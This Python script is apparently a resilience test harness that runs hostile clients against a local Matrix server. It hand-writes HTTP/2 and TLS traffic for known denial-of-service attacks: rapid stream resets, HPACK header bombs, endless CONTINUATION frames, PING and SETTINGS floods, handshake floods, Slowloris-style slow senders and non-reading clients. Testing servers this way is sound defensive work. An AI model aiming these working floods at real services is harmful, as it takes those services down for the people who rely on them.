#!/usr/bin/env python3
"""Clients that mean harm, as a process of their own: flood_clients.py KIND CA SECONDS [NUMBER]

Frames are written by hand, so that no library's manners stand in the way. It prints one JSON object: what it
did. Kinds that hold connections print "held", wait for a line on standard input, and then print the object.
"""

import json
import os
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time

ADDRESS = ("127.0.0.2", 443)
HOST = "matrix.a.test"
SETTINGS, HEADERS, RST_STREAM, PING, WINDOW_UPDATE, CONTINUATION = 4, 1, 3, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def literal(name, value):
    """A header by the index of its name, without the tables' help (RFC 7541 6.2.2)."""
    return bytes([name, len(value)]) + value.encode()


GET = b"\x82\x87" + literal(4, "/_matrix/x") + literal(1, HOST)
PUT = literal(2, "PUT") + b"\x87" + literal(4, "/_matrix/x") + literal(1, HOST)
# An entry of 4000 bytes in the dynamic table, then named 10,000 times by a byte.
BOMB = GET + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 10000


def frame(kind, flags, stream, payload=b""):
    """One frame (RFC 9113 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def context(h2):
    """A client's TLS settings."""
    tls = ssl.create_default_context(cafile=sys.argv[2])
    tls.set_alpn_protocols(["h2"] if h2 else ["http/1.1"])
    return tls


def plain(number=0, buffer=None):
    """A TCP connection; 200 of them from each address."""
    line = socket.socket()
    if buffer:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
    line.bind((f"127.9.{number // 200 // 250}.{number // 200 % 250 + 1}", 0))
    line.settimeout(10)
    line.connect(ADDRESS)
    return line


def shaken(tls, number=0, **more):
    """A TLS connection."""
    return tls.wrap_socket(plain(number, **more), server_hostname=HOST)


def streams(until, burst, reads=True):
    """Connects and writes what `burst(n)` makes until it is cut off, again and again."""
    tls, connections, bursts = context(True), 0, 0
    while time.monotonic() < until:
        try:
            line = shaken(tls)
            connections += 1
            line.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
            line.settimeout(2)
            n = 0
            while time.monotonic() < until:
                line.sendall(burst(n))
                n, bursts = n + 1, bursts + 1
                # Else TCP alone would end it.
                if reads and select.select([line], [], [], 0)[0]:
                    line.recv(65536)
        except OSError:
            pass
        finally:
            line.close()
    return {"connections": connections, "bursts": bursts}


def pairs(second, head):
    """Bursts of 100 streams, each with a frame that ends it badly."""

    def burst(n):
        ids = range(200 * n + 1, 200 * n + 201, 2)
        flags = END_HEADERS | (END_STREAM if second[0] == RST_STREAM else 0)
        return b"".join(frame(HEADERS, flags, id, head) + frame(second[0], 0, id, second[1]) for id in ids)

    return burst


def client_hello():
    """The first flight of a client."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context(True).wrap_bio(incoming, outgoing, server_hostname=HOST)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def handshakes(until):
    """Four clients that make the porch do a handshake's work, and leave."""
    hello, done = client_hello(), [0] * 4

    def one(at):
        while time.monotonic() < until:
            try:
                line = plain(at)
                line.sendall(hello)
                line.recv(100)
                line.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                line.close()
                done[at] += 1
            except OSError:
                pass

    threads = [threading.Thread(target=one, args=(at,)) for at in range(4)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    return {"handshakes": sum(done)}


def half_open(number):
    """Silent ones, half a ClientHello, a whole one without an end, and half a request's head."""
    tls, hello, lines = context(False), client_hello(), []
    for n in range(number):
        kind = n % 4
        line = shaken(tls, n) if kind == 3 else plain(n)
        line.sendall((b"", hello[:60], hello, b"GET /_matrix/x HTTP/1.1\r\nHost: matr")[kind]) if kind else None
        lines.append(line)
    return lines


def watched(lines, seconds):
    """How long it took until all of these were closed."""
    begun, poll = time.monotonic(), select.poll()
    # A TLS connection is closed when its socket is, whatever alert came before.
    open_ones = {line.fileno(): line for line in lines}
    for number in open_ones:
        poll.register(number, select.POLLIN)
    while open_ones and time.monotonic() - begun < seconds:
        for number, _ in poll.poll(500):
            try:
                over = not os.read(number, 65536)
            except OSError:
                over = True
            if over:
                poll.unregister(number)
                del open_ones[number]
    return {"dropped": len(lines) - len(open_ones), "left": len(open_ones), "seconds": time.monotonic() - begun}


def readers(number, h2):
    """Clients that ask for much and read nothing of it."""
    tls, lines = context(h2), []
    big = b"\x82\x87" + literal(4, "/_matrix/big") + literal(1, HOST)
    for n in range(number):
        line = shaken(tls, n)
        if h2:
            line.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
            line.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, big))
        else:
            line.sendall(f"GET /_matrix/big HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
        lines.append(line)
    return lines


def windows(number):
    """Clients whose streams have a window of one byte, a hundred streams each."""
    tls, lines = context(True), []
    big = b"\x82\x87" + literal(4, "/_matrix/big") + literal(1, HOST)
    for n in range(number):
        line = shaken(tls, n)
        line.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\1"))
        line.sendall(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * at + 1, big) for at in range(100)))
        lines.append(line)
    return lines


def slow(until, number):
    """Clients that send a body, or a head, a byte at a time."""
    tls, lines = context(False), []
    for n in range(number):
        line = shaken(tls, n)
        length = "Content-Length: 1000000\r\n\r\n" if n % 2 else "X: "
        line.sendall(f"PUT /_matrix/x HTTP/1.1\r\nHost: {HOST}\r\n{length}".encode())
        lines.append(line)
    alive = lines
    while time.monotonic() < until:
        still = []
        for line in alive:
            try:
                line.sendall(b"x")
                still.append(line)
            except OSError:
                pass
        alive = still
        time.sleep(0.5)
    return {"clients": number, "alive": len(alive)}


def idle(number):
    """Clients that ask once and stay."""
    tls, lines = context(False), []
    for n in range(number):
        line = shaken(tls, n)
        line.sendall(f"GET /quick/x HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
        line.recv(65536)
        lines.append(line)
    return lines


def main():
    kind, seconds = sys.argv[1], float(sys.argv[3])
    number = int(sys.argv[4]) if len(sys.argv) > 4 else 0
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    until = time.monotonic() + seconds
    zero = (0).to_bytes(4, "big")
    bombs = lambda n: frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, BOMB)  # noqa: E731
    endless = frame(CONTINUATION, 0, 1, b"\x00\x01x\x7f\x80\x7f" + b"y" * 255) * 20
    act = {
        "reset": lambda: streams(until, pairs((RST_STREAM, b"\0\0\0\x08"), GET)),
        "made-you-reset": lambda: streams(until, pairs((WINDOW_UPDATE, zero), PUT)),
        "bombs": lambda: streams(until, bombs),
        "continuation": lambda: streams(until, lambda n: endless if n else frame(HEADERS, 0, 1, GET)),
        "pings": lambda: streams(until, lambda _: frame(PING, 0, 0, b"12345678") * 200, reads=False),
        "settings": lambda: streams(until, lambda _: frame(SETTINGS, 0, 0) * 200, reads=False),
        "handshakes": lambda: handshakes(until),
        "slow": lambda: slow(until, number),
    }
    hold = {
        "half-open": half_open,
        "readers": lambda n: readers(n, False),
        "readers-h2": lambda n: readers(n, True),
        "windows": windows,
        "idle": idle,
    }
    if kind in act:
        print(json.dumps(act[kind]()), flush=True)
        return
    lines = hold[kind](number)
    print("held", flush=True)
    if kind == "half-open":
        print(json.dumps(watched(lines, seconds)), flush=True)
    sys.stdin.readline()


if __name__ == "__main__":
    main()
